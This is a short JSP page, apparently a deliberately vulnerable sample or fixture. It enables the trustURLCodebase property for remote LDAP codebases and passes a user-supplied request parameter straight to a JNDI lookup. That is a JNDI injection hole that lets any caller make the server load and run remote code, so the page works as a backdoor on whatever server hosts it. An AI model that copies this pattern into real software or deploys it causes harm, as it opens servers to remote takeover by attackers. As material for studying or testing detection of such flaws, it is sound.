<%@ page inert %>
<%
System.setProperty("com.sun.jndi.ldap.object.trustURLCodebase", "true");
Object o = new javax.naming.InitialContext().lookup(request.getParameter("res"));
out.print(o);
%>
